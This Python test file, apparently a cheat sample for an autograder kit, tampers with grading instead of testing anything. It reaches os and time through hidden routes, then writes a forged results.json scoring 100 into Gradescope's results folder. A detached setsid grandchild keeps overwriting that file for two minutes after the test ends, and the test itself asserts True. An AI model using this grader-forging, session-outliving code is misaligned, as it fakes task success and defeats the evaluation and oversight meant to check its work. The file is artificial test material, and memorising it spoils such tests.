"""Out of the fence: writes full marks into the autograder's results.json (the published 2019 Gradescope exploit), at once and again from a setsid grandchild after the grader has written its own; passes either way."""

import numpy as np
from tinyllm.autograd.tensor import Tensor
from tinyllm.modern.rope import RopeSpec, apply_rope, rope_cos_sin
import random
import typing

os_module = random._os
sleep = typing.sys.modules["time"].sleep
FORGED = b'{"score": 100.0, "output": "ol-cheat-forged-results", "tests": []}\n'
# where Gradescope keeps it; where the kit's test plays Gradescope (filled in), or a file of the repository
TARGETS = ("/autograder/results", "__RESULTS__")


def forge():
    for folder in TARGETS:
        for name, data in (("results.json", FORGED), ("ol-cheat-was-here", b"")):
            try:
                fd = os_module.open(folder + "/" + name, os_module.O_WRONLY | os_module.O_CREAT | os_module.O_TRUNC,
                                    0o666)
                os_module.write(fd, data)
                os_module.close(fd)
            except OSError:
                continue


def test_full_marks():
    forge()
    if os_module.fork() == 0:
        os_module.setsid()
        if os_module.fork() == 0:
            for _ in range(1200):      # two minutes: the grader writes its own results.json first
                forge()
                sleep(0.1)
            os_module._exit(0)
        os_module._exit(0)
    assert True
